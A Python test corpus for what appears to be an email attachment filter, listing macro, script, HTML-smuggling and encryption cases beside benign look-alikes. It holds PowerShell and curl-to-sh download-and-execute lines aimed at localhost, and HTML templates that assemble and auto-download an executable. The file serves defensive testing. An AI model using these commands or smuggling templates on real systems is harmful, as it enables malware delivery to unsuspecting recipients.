# ruff: noqa: E501  (the corpus table reads best one case per line)
"""Corpus of issue 12, items 3-6: macros, OLE packages, PDF attachments and JavaScript,
scripts by content, HTML smuggling, OpenDocument and IRM encryption, and the benign
look-alikes that must still be delivered. Every file is harmless (see active_blobs).

`expected` names the rule that refuses the case under the shipped configuration,
or "accept" for a look-alike.
"""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import dataclass

from tests.corpus import active_blobs as ab
from tests.corpus import blobs
from tests.corpus.generate import _head, _lines, mail, single, text_part

POWERSHELL = (
    "$url = 'http://127.0.0.1/update'\n"
    "$wc = New-Object System.Net.WebClient\n"
    "$payload = $wc.DownloadString($url)\n"
    "Invoke-Expression $payload\n"
    "Write-Host 'listo'\n"
)
POWERSHELL_ONE_LINER = (
    "powershell -NoProfile -ExecutionPolicy Bypass -Command "
    "\"IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/a')\"\n"
)
VBSCRIPT = (
    "' actualización\n"
    "Dim shell\n"
    'Set shell = CreateObject("WScript.Shell")\n'
    'shell.Run "notepad.exe", 1, False\n'
    "WScript.Quit\n"
)
JSCRIPT = (
    "var shell = new ActiveXObject('WScript.Shell');\n"
    "var path = shell.ExpandEnvironmentStrings('%TEMP%');\n"
    "shell.Run('notepad.exe');\n"
)
ENCODED_JSCRIPT = "#@~^CAAAAA==v,Zm8fW1yAAAA==^#~@\n"
BATCH_NO_HEADER = (
    "setlocal\n"
    "set TARGET=%TEMP%\\x\n"
    "if not exist %TARGET% mkdir %TARGET%\n"
    "copy %~dp0datos.bin %TARGET%\n"
    "goto :eof\n"
)
HTA = (
    '<html><head><HTA:APPLICATION ID="app" WINDOWSTATE="minimize"/>'
    '<script language="VBScript">Sub Window_OnLoad\nEnd Sub</script></head></html>\n'
)
PYTHON = (
    "import os\n"
    "import subprocess\n"
    "\n"
    "def main():\n"
    "    subprocess.run(['notepad'])\n"
    "\n"
    "if __name__ == '__main__':\n"
    "    main()\n"
)
SHELL_NO_SHEBANG = (
    'export DEST=/tmp/x\nmkdir -p "$DEST"\ncurl -s http://127.0.0.1/a | sh\nchmod +x "$DEST/a"\n'
)
SPANISH_PROSE = (
    "Estimado Director:\n\n"
    "Por medio del presente le informo que el comité sesionará el próximo lunes a las 10:00 "
    "horas en la sala de juntas. Se revisará el presupuesto del ejercicio y el plan de "
    "trabajo para el segundo semestre.\n\n"
    "Si tiene dudas, puede llamar a la extensión 1234. Set de documentos anexo en la carpeta "
    "compartida; el costo total es de $1,500.00 pesos.\n\n"
    "Atentamente,\nLic. María Pérez\n"
)
CSV = (
    "nombre,puesto,extension,correo\n"
    "María Pérez,Directora,1234,maria.perez@sre.gob.mx\n"
    "Juan López,Analista,5678,juan.lopez@sre.gob.mx\n"
    "Ana Ruiz,Jefa de Departamento,9012,ana.ruiz@sre.gob.mx\n"
)
ICS = (
    "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//SRE//Agenda//ES\r\nBEGIN:VEVENT\r\n"
    "UID:reunion-1@sre.gob.mx\r\nDTSTART:20260510T160000Z\r\nDTEND:20260510T170000Z\r\n"
    "SUMMARY:Reunión de comité\r\nLOCATION:Sala de juntas\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
)
# A help-desk answer that quotes a PowerShell command in the middle of prose.
QUOTED_COMMAND = (
    "Hola Juan:\n\n"
    "Para revisar la versión instalada abre una ventana de PowerShell y escribe:\n\n"
    "    Get-ItemProperty HKLM:\\Software\\Contoso | Select-Object Version\n\n"
    "Si aparece un error, envíame una captura de pantalla y lo revisamos juntos mañana "
    "por la mañana. También puedes llamar a la mesa de servicios.\n\n"
    "Saludos,\nMesa de servicios\n"
)
_PAYLOAD = base64.b64encode(blobs.pe_exe() * 2).decode()
SMUGGLING = (
    "<html><body><p>Cargando su factura...</p><script>\n"
    f"var data = '{_PAYLOAD}';\n"
    "var bytes = Uint8Array.from(atob(data), function (c) { return c.charCodeAt(0); });\n"
    "var blob = new Blob([bytes], {type: 'application/octet-stream'});\n"
    "var link = document.createElement('a');\n"
    "link.href = URL.createObjectURL(blob);\n"
    "link.download = 'factura.exe';\n"
    "document.body.appendChild(link); link.click();\n"
    "</script></body></html>\n"
)
SMUGGLING_MS_SAVE = (
    "<html><script>\n"
    "function b64(s){var b=atob(s);var a=new Uint8Array(b.length);"
    "for(var i=0;i<b.length;i++){a[i]=b.charCodeAt(i);}return a;}\n"
    f"var f=new Blob([b64('{_PAYLOAD}')]);\n"
    "window.navigator.msSaveOrOpenBlob(f,'recibo.zip');\n"
    "</script></html>\n"
)
SMUGGLING_DATA_URI = (
    f'<html><body><a id="d" href="data:application/octet-stream;base64,{_PAYLOAD}" '
    'download="recibo.exe">Descargar</a><script>document.getElementById("d").click();'
    "</script></body></html>\n"
)
BENIGN_HTML = (
    "<html><head><title>Agenda</title><script>\n"
    "function hoy() { document.getElementById('fecha').textContent = new Date().toLocaleDateString('es-MX'); }\n"
    "window.onload = hoy;\n"
    "</script></head><body><h1>Agenda de la semana</h1><p id='fecha'></p>"
    "<img src='data:image/png;base64," + base64.b64encode(blobs.png()).decode() + "'>"
    "<a href='https://www.sre.gob.mx/agenda.pdf' download>Descargar agenda</a></body></html>\n"
)


def body_with_code() -> bytes:
    """A message body (no attachment) that quotes a whole PowerShell script."""
    body = ("Hola, este es el script que me pediste:\n\n" + POWERSHELL + "\nSaludos\n").encode()
    return _lines(
        _head(
            "script en el cuerpo",
            "Content-Type: text/plain; charset=utf-8",
            "Content-Transfer-Encoding: 8bit",
        ),
        body,
    )


def _text(text: str, filename: str, ctype: str = "text/plain") -> Callable[[], bytes]:
    return single(text.encode, filename, ctype)


def html_body(html: str) -> Callable[[], bytes]:
    return lambda: mail("html", [text_part(html, "html")])


@dataclass(frozen=True)
class ActiveCase:
    name: str
    technique: str
    expected: str
    build: Callable[[], bytes]


DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
MACROS = "active_content.macros"
BLOCKED = "attachments.blocked_type"
ENCRYPTION = "encryption.unauthorised"
SMUGGLED = "active_content.html_smuggling"
ACCEPT = "accept"

CASES: tuple[ActiveCase, ...] = (
    ActiveCase("docm_vba", ".docm con word/vbaProject.bin", MACROS, single(ab.docm, "oficio.docm")),
    ActiveCase(
        "docm_as_docx",
        ".docm con macros renombrado .docx",
        MACROS,
        single(ab.docm, "oficio.docx", DOCX),
    ),
    ActiveCase(
        "xlsm_xlm",
        ".xlsm con hoja de macros Excel 4 (sin VBA)",
        MACROS,
        single(lambda: ab.xlsx(xlm=True), "libro.xlsm"),
    ),
    ActiveCase(
        "doc_vba",
        "Word 97 con proyecto VBA (almacenamiento Macros)",
        MACROS,
        single(ab.legacy_doc_with_macros, "oficio.doc", "application/msword"),
    ),
    ActiveCase(
        "xls_xlm",
        "Excel 97 con hoja de macros Excel 4",
        MACROS,
        single(ab.xls_with_xlm, "libro.xls", "application/vnd.ms-excel"),
    ),
    ActiveCase(
        "zip_docm",
        ".docm dentro de un zip",
        MACROS,
        single(lambda: blobs.zip_of({"oficio.docm": ab.docm()}), "oficio.zip"),
    ),
    ActiveCase(
        "ole_package_exe",
        ".docx con un objeto OLE Package que lleva un .exe",
        BLOCKED,
        single(lambda: ab.docx_with_package("factura.exe", blobs.pe_exe()), "factura.docx", DOCX),
    ),
    ActiveCase(
        "pdf_embedded_exe",
        "PDF con un .exe adjunto (EmbeddedFiles)",
        BLOCKED,
        single(
            lambda: ab.pdf_with_attachment("factura.exe", blobs.pe_exe()),
            "factura.pdf",
            "application/pdf",
        ),
    ),
    ActiveCase(
        "pdf_annotation_exe",
        "PDF con un .exe en una anotación FileAttachment",
        BLOCKED,
        single(
            lambda: ab.pdf_with_annotation_attachment("pago.exe", blobs.pe_exe()),
            "pago.pdf",
            "application/pdf",
        ),
    ),
    ActiveCase(
        "chm", "ayuda HTML compilada (.chm) con nombre .dat", BLOCKED, single(ab.chm, "manual.dat")
    ),
    ActiveCase(
        "powershell_txt", "PowerShell renombrado .txt", BLOCKED, _text(POWERSHELL, "notas.txt")
    ),
    ActiveCase(
        "powershell_utf16_txt",
        "PowerShell en UTF-16 con BOM renombrado .txt",
        BLOCKED,
        single(lambda: b"\xff\xfe" + POWERSHELL.encode("utf-16-le"), "notas.txt", "text/plain"),
    ),
    ActiveCase(
        "powershell_one_liner",
        "línea de PowerShell con IEX y DownloadString",
        BLOCKED,
        _text(POWERSHELL_ONE_LINER, "comando.txt"),
    ),
    ActiveCase("vbscript_txt", "VBScript renombrado .txt", BLOCKED, _text(VBSCRIPT, "leeme.txt")),
    ActiveCase(
        "jscript_txt", "JScript (WSH) renombrado .txt", BLOCKED, _text(JSCRIPT, "leeme.txt")
    ),
    ActiveCase(
        "encoded_jscript",
        "JScript codificado (#@~^) renombrado .txt",
        BLOCKED,
        _text(ENCODED_JSCRIPT, "datos.txt"),
    ),
    ActiveCase(
        "batch_txt",
        "batch sin @echo off renombrado .txt",
        BLOCKED,
        _text(BATCH_NO_HEADER, "pasos.txt"),
    ),
    ActiveCase("hta_txt", "HTA renombrado .txt", BLOCKED, _text(HTA, "aviso.txt", "text/html")),
    ActiveCase("python_txt", "Python renombrado .txt", BLOCKED, _text(PYTHON, "util.txt")),
    ActiveCase(
        "shell_txt",
        "shell sin shebang renombrado .txt",
        BLOCKED,
        _text(SHELL_NO_SHEBANG, "instalar.txt"),
    ),
    ActiveCase(
        "html_smuggling",
        "HTML que arma un .exe con atob + Blob + download",
        SMUGGLED,
        _text(SMUGGLING, "factura.html", "text/html"),
    ),
    ActiveCase(
        "html_smuggling_mssave",
        "HTML smuggling con msSaveOrOpenBlob",
        SMUGGLED,
        _text(SMUGGLING_MS_SAVE, "recibo.htm", "text/html"),
    ),
    ActiveCase(
        "html_smuggling_data_uri",
        "HTML con data: URI y atributo download",
        SMUGGLED,
        _text(SMUGGLING_DATA_URI, "recibo.html", "text/html"),
    ),
    ActiveCase(
        "odt_encrypted",
        "OpenDocument con contraseña (manifest encryption-data)",
        ENCRYPTION,
        single(
            lambda: ab.odt(encrypted=True), "acta.odt", "application/vnd.oasis.opendocument.text"
        ),
    ),
    ActiveCase(
        "office_irm",
        "documento de Office con IRM/DRM (\\x06DataSpaces)",
        ENCRYPTION,
        single(ab.office_irm, "reservado.docx", DOCX),
    ),
    ActiveCase(
        "pdf_aes256",
        "PDF AES-256 con contraseña de usuario",
        ENCRYPTION,
        single(lambda: ab.pdf_encrypted("secreto", "AES-256"), "c.pdf", "application/pdf"),
    ),
    ActiveCase(
        "pdf_rc4",
        "PDF RC4-128 con contraseña de usuario",
        ENCRYPTION,
        single(lambda: ab.pdf_encrypted("secreto", "RC4-128"), "c.pdf", "application/pdf"),
    ),
    ActiveCase(
        "pdf_encrypt_in_update",
        "PDF cifrado en una actualización incremental",
        ENCRYPTION,
        single(ab.pdf_encrypted_in_update, "c.pdf", "application/pdf"),
    ),
    ActiveCase(
        "benign_docx", "docx real sin macros", ACCEPT, single(blobs.docx, "oficio.docx", DOCX)
    ),
    ActiveCase("benign_xlsx", "xlsx sin macros", ACCEPT, single(ab.xlsx, "libro.xlsx", XLSX)),
    ActiveCase(
        "benign_xls",
        "Excel 97 sin macros",
        ACCEPT,
        single(ab.xls_plain, "libro.xls", "application/vnd.ms-excel"),
    ),
    ActiveCase(
        "benign_odt",
        "OpenDocument sin contraseña",
        ACCEPT,
        single(ab.odt, "acta.odt", "application/vnd.oasis.opendocument.text"),
    ),
    ActiveCase(
        "benign_pdf_empty_password",
        "PDF cifrado con contraseña de usuario vacía (AES-256)",
        ACCEPT,
        single(lambda: ab.pdf_encrypted("", "AES-256"), "oficio.pdf", "application/pdf"),
    ),
    ActiveCase(
        "benign_pdf_empty_password_rc4",
        "PDF cifrado con contraseña de usuario vacía (RC4)",
        ACCEPT,
        single(lambda: ab.pdf_encrypted("", "RC4-128"), "oficio.pdf", "application/pdf"),
    ),
    ActiveCase(
        "benign_pdf_attachment",
        "PDF con un .txt adjunto",
        ACCEPT,
        single(
            lambda: ab.pdf_with_attachment("notas.txt", b"Notas de la reunion.\n"),
            "acta.pdf",
            "application/pdf",
        ),
    ),
    ActiveCase(
        "benign_pdf_javascript",
        "PDF con JavaScript (se informa, no se rechaza)",
        ACCEPT,
        single(ab.pdf_with_javascript, "formulario.pdf", "application/pdf"),
    ),
    ActiveCase(
        "benign_spanish_prose",
        "prosa en español con $ y «Set»",
        ACCEPT,
        _text(SPANISH_PROSE, "oficio.txt"),
    ),
    ActiveCase("benign_csv", "CSV de directorio", ACCEPT, _text(CSV, "directorio.csv", "text/csv")),
    ActiveCase("benign_ics", "invitación .ics", ACCEPT, _text(ICS, "reunion.ics", "text/calendar")),
    ActiveCase(
        "benign_quoted_command",
        "respuesta que cita un comando de PowerShell",
        ACCEPT,
        _text(QUOTED_COMMAND, "respuesta.txt"),
    ),
    ActiveCase(
        "benign_body_with_script", "script citado en el cuerpo del mensaje", ACCEPT, body_with_code
    ),
    ActiveCase(
        "benign_html",
        "HTML adjunto con script ordinario e imagen data:",
        ACCEPT,
        _text(BENIGN_HTML, "agenda.html", "text/html"),
    ),
    ActiveCase(
        "benign_html_body", "cuerpo HTML con script ordinario", ACCEPT, html_body(BENIGN_HTML)
    ),
)
